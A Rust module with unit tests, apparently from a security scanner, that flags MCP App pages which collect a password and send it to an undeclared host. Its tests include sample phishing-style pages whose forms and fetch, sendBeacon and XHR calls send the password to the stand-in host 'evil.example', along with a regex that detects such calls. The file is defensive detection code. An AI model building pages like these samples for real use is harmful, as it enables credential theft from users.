//! Pages of MCP Apps that ask for a password and send it to a place that they do not declare.
//!
//! A page runs under a content security policy made from the origins that it declares. That policy does not cover where
//! a form is sent to, so a page without any declared origin can still post a password. The search looks at the page as
//! text: a page that builds its form by a script is not found.

use std::cell::RefCell;
use std::sync::LazyLock;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use regex::Regex;
use url::Url;

/// Maximum length of a page that is examined, in bytes. Of a longer one the beginning is.
const MAX_PAGE: usize = 1024 * 1024;

/// Maximum number of destinations of one page.
const MAX_DESTINATIONS: usize = 256;

/// Calls of scripts that send something to an absolute URL.
static SENDING_CALL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?is)\b(?:fetch|sendBeacon|WebSocket|EventSource|open)\s*\([^)]{0,200}?["'`]\s*((?:https?:|wss?:)?//[^\s"'`<>)]+)"#,
    )
    .ok()
});

/// Returns the first host to which a page with a field for a password sends something, if the page declares no origin
/// that covers it. `declared` are origins, with `*.` before a host for all below it.
#[must_use]
pub fn find_password_leak(html: &str, declared: &[String]) -> Option<String> {
    let end = (0..=html.len().min(MAX_PAGE)).rev().find(|at| html.is_char_boundary(*at))?;
    let reader = Tokenizer::new(PageReader::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(&html[..end]));
    let _no_script_runs = reader.feed(&input);
    reader.end();
    let page = reader.sink.0.into_inner();
    let is_declared = |host: &String| {
        declared.iter().filter_map(|origin| host_of(origin)).any(|origin| match origin.strip_prefix("*.") {
            Some(domain) => host.strip_suffix(domain).is_some_and(|below| below.ends_with('.')),
            None => origin == *host,
        })
    };
    page.hosts.into_iter().filter(|_| page.has_password).find(|host| !is_declared(host))
}

/// Reader of the fields and destinations of a page.
#[derive(Debug, Default)]
struct PageReader(RefCell<PageContent>);

#[derive(Debug, Default)]
struct PageContent {
    has_password: bool,
    hosts: Vec<String>,
    script: Option<String>,
}

impl TokenSink for PageReader {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut page = self.0.borrow_mut();
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                page.add_tag(&tag);
                if &*tag.name == "script" {
                    page.script = Some(String::new());
                    return TokenSinkResult::RawData(RawKind::ScriptData);
                }
            }
            Token::TagToken(_) | Token::EOFToken => page.end_script(),
            Token::CharacterTokens(text) => {
                if let Some(script) = &mut page.script {
                    script.push_str(&text);
                }
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

impl PageContent {
    fn add_tag(&mut self, tag: &Tag) {
        for attribute in &tag.attrs {
            let value = attribute.value.trim();
            match (&*tag.name, &*attribute.name.local) {
                ("input", "type") => self.has_password |= value.eq_ignore_ascii_case("password"),
                ("form", "action") | (_, "formaction") => self.add_destination(value),
                _ => {}
            }
        }
    }

    fn end_script(&mut self) {
        let (Some(script), Some(calls)) = (self.script.take(), &*SENDING_CALL) else { return };
        for call in calls.captures_iter(&script) {
            self.add_destination(call.get(1).map_or("", |place| place.as_str()));
        }
    }

    fn add_destination(&mut self, url: &str) {
        if self.hosts.len() < MAX_DESTINATIONS {
            self.hosts.extend(host_of(url));
        }
    }
}

/// Returns the host of an absolute URL or of an origin pattern.
fn host_of(text: &str) -> Option<String> {
    let (_, rest) = text.split_once("//")?;
    if let Some(below) = rest.strip_prefix("*.") {
        return Some(format!("*.{}", below.split([':', '/']).next()?.to_ascii_lowercase()));
    }
    let url = Url::parse(&format!("https://{rest}")).ok()?;
    Some(url.host_str()?.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    const FIELD: &str = "<INPUT name=pw Type = 'password'>";

    #[test]
    fn a_password_that_goes_to_an_undeclared_place_is_found() {
        for page in [
            format!("<form method=post action='https://Evil.example/take'>{FIELD}</form>"),
            format!("<form action=//evil.example>{FIELD}</form>"),
            format!("<form>{FIELD}<button formaction=\"https://evil.example:8443/\">Go</button></form>"),
            format!("{FIELD}<script>fetch( 'https://evil.example/x', {{ body }})</script>"),
            format!("{FIELD}<script>x.open('POST', `http://evil.example/`)</script>"),
            format!("{FIELD}<script>navigator.sendBeacon(\"https://evil.example\", v)</script>"),
            format!("<form action='https:&#47;&#47;evil.example'>{FIELD}</form>"),
        ] {
            assert_eq!(find_password_leak(&page, &[]).as_deref(), Some("evil.example"), "{page}");
            assert_eq!(
                find_password_leak(&page, &["https://good.example".to_owned()]).as_deref(),
                Some("evil.example")
            );
            for declared in ["https://evil.example", "https://evil.example:8443"] {
                assert_eq!(find_password_leak(&page, &[declared.to_owned()]), None, "{page}");
            }
        }
        let below = format!("<form action='https://a.b.good.example'>{FIELD}</form>");
        assert_eq!(find_password_leak(&below, &["https://*.good.example".to_owned()]), None);
        let other = format!("<form action='https://notgood.example'>{FIELD}</form>");
        assert!(find_password_leak(&other, &["https://*.good.example".to_owned()]).is_some());
    }

    #[test]
    fn other_pages_are_left_alone() {
        for page in [
            "<form action='https://shop.example/search'><input name=q></form>",
            "<input type=password><script>window.parent.postMessage(v, '*')</script>",
            "<input type=password><form action='/local'></form><a href='https://help.example'>Help</a>",
            "",
        ] {
            assert_eq!(find_password_leak(page, &[]), None, "{page}");
        }
        let long = format!("{}{FIELD}<form action='https://evil.example'>", "ü".repeat(MAX_PAGE));
        assert_eq!(find_password_leak(&long, &[]), None);
    }
}
